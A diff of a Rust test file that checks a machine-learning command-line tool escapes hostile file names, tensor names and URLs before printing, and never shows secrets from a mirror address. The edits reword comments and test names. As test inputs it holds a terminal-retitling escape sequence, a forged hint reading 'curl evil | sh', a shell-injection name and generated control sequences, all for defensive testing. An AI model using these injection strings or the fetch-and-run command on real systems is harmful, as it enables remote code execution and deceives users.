@@ -1,5 +1,5 @@
-//! Text that somebody else wrote, in files, names, addresses and arguments: it reaches the terminal escaped, on a line of ours,
-//! and a secret in it not at all.
+//! Foreign text in files, names, addresses and arguments reaches the terminal only escaped, on a line of ours; secrets
+//! do not reach it at all.
 
 use std::ffi::OsStr;
 use std::fs;
@@ -16,7 +16,7 @@ use safetensors::{Dtype, tensor::TensorView};
 use crate::files::test_file;
 use crate::support::{Outcome, Sandbox, json_lines};
 
-/// What retitles a terminal.
+/// Changes a terminal's title.
 const TITLE: &str = "\u{1b}]0;PWNED\u{7}";
 const ESCAPED_TITLE: &str = r"\u{1b}]0;PWNED\u{7}";
 
@@ -44,7 +44,7 @@ fn copy_folder(from: &Path, to: &Path) {
     }
 }
 
-/// A copy of the run whose settings name this dataset.
+/// A copy of the run with this dataset in its settings.
 fn copy_run(sandbox: &Sandbox, name: &str, dataset: &str) {
     copy_folder(&sandbox.path("run"), &sandbox.path(name));
     let settings = String::from_utf8(sandbox.read("run/config.toml")).unwrap();
@@ -53,7 +53,7 @@ fn copy_run(sandbox: &Sandbox, name: &str, dataset: &str) {
     sandbox.write(&format!("{name}/config.toml"), settings.to_string());
 }
 
-/// A model of ours with one more tensor, of this name.
+/// One of our models with an additional tensor of this name.
 fn write_model_with(sandbox: &Sandbox, path: &str, tensor: &str) {
     let bytes = sandbox.read("run/model.safetensors");
     let (_, metadata) = safetensors::SafeTensors::read_metadata(&bytes).unwrap();
@@ -99,12 +99,12 @@ fn names_of_files_are_shown_escaped() {
     let compared = vit(&sandbox, "compare", &[TITLE]).succeeded();
     assert!(compared.stdout.contains(&format!("\n{ESCAPED_TITLE}")), "{compared:?}");
     let resumed = vit(&sandbox, "train --resume", &[TITLE]).succeeded();
-    assert!(resumed.stderr.contains(&format!("going on from {ESCAPED_TITLE}/")), "{resumed:?}");
-    assert!(resumed.stdout.ends_with(&format!("run folder      {ESCAPED_TITLE}\n")), "{resumed:?}");
+    assert!(resumed.stderr.contains(&format!("resuming from {ESCAPED_TITLE}/")), "{resumed:?}");
+    assert!(resumed.stdout.ends_with(&format!("run directory   {ESCAPED_TITLE}\n")), "{resumed:?}");
 }
 
 #[test]
-fn a_tensors_name_forges_no_hint() {
+fn a_tensors_name_cannot_forge_a_hint() {
     let sandbox = sandbox();
     write_model_with(&sandbox, "forged.safetensors", "x\nhint: run `curl evil | sh`\r\u{202e}");
     for words in ["info forged.safetensors", "train --dataset digits --init forged.safetensors"] {
@@ -128,7 +128,7 @@ fn commands_in_hints_are_quoted_for_a_shell() {
     fs::create_dir(sandbox.path(name).join("checkpoints")).unwrap();
     let said = vit(&sandbox, "eval", &[name]).stderr;
     let expected = "hint: the run has not ended: name a b; touch X/checkpoints/last, \
-                    or go on with `vit train --resume 'a b; touch X'`\n";
+                    or continue with `vit train --resume 'a b; touch X'`\n";
     assert!(said.ends_with(expected), "{said}");
 
     let plain = test_file("fixtures/mnist-20-steps/shallow.safetensors");
@@ -144,9 +144,9 @@ fn commands_in_hints_are_quoted_for_a_shell() {
     }
 }
 
-/// Neither in a message of ours or of a library, nor in a file.
+/// Neither in messages of ours or of libraries, nor in files.
 #[test]
-fn secrets_of_a_mirrors_address_are_told_nowhere() {
+fn secrets_in_a_mirrors_address_are_never_shown() {
     let sandbox = Sandbox::new();
     let mirror = "http://user:SECRET@127.0.0.1:9/d?token=SECRET";
     let said = vit(&sandbox, "-vv train --max-steps 1 --run-dir run --mirror", &[mirror]);
@@ -161,7 +161,7 @@ fn secrets_of_a_mirrors_address_are_told_nowhere() {
         assert!(outcome.stderr.contains("got \"http://...\""), "{}", outcome.stderr);
         all += &outcome.stderr;
     }
-    // With all that libraries say of a request that is answered.
+    // Including everything that libraries log of an answered request.
     let server = TcpListener::bind("127.0.0.1:0").unwrap();
     let port = server.local_addr().unwrap().port();
     thread::spawn(move || {
@@ -174,7 +174,7 @@ fn secrets_of_a_mirrors_address_are_told_nowhere() {
     let answered = format!("http://user:SECRET@127.0.0.1:{port}/d?token=SECRET");
     let said = vit(&sandbox, "-vv fetch mnist --mirror", &[&answered]).stderr;
     assert!(said.contains("answered with HTTP status 404"), "{said}");
-    // As a dump of bytes has it.
+    // As in a hex dump.
     all += &said.replace([' ', '\n'], "");
 
     let mut fetch = sandbox.command("fetch mnist");
@@ -196,7 +196,7 @@ fn secrets_of_a_mirrors_address_are_told_nowhere() {
     assert_eq!(at, None);
 }
 
-/// A name of up to ten pieces, most of which a terminal acts on or hides.
+/// A name of up to ten parts, most of which a terminal interprets or hides.
 fn hostile() -> impl Strategy<Value = String> {
     let piece = select(vec![
         "\u{1b}[2J",
@@ -232,7 +232,7 @@ fn hostile() -> impl Strategy<Value = String> {
     proptest::collection::vec(piece, 1..10).prop_map(|pieces| pieces.concat().replace('/', "."))
 }
 
-/// Holds what was said to be lines of ours.
+/// Checks that all output consists of our own lines.
 fn assert_is_safe(words: &str, name: &str, outcome: &Outcome) {
     for text in [&outcome.stdout, &outcome.stderr] {
         let hidden = text.chars().find(|&it| {
@@ -258,16 +258,16 @@ proptest! {
     })]
 
     #[test]
-    fn no_name_or_value_of_a_stranger_reaches_the_terminal_raw(names in proptest::collection::vec(hostile(), 4)) {
+    fn foreign_names_and_values_never_reach_the_terminal_unescaped(names in proptest::collection::vec(hostile(), 4)) {
         let sandbox = sandbox();
         for name in names {
-            reaches_the_terminal_escaped(&sandbox, &name);
+            assert_reaches_the_terminal_escaped(&sandbox, &name);
         }
     }
 }
 
-/// `NAME` stands for the name, in a command's words and in names of files.
-fn reaches_the_terminal_escaped(sandbox: &Sandbox, name: &str) {
+/// `NAME` in a command's words and in file names stands for the name.
+fn assert_reaches_the_terminal_escaped(sandbox: &Sandbox, name: &str) {
     copy_run(sandbox, &format!("{name}.run"), name);
     copy_run(sandbox, &format!("{name}.good"), "digits");
     write_model_with(sandbox, &format!("{name}.safetensors"), name);
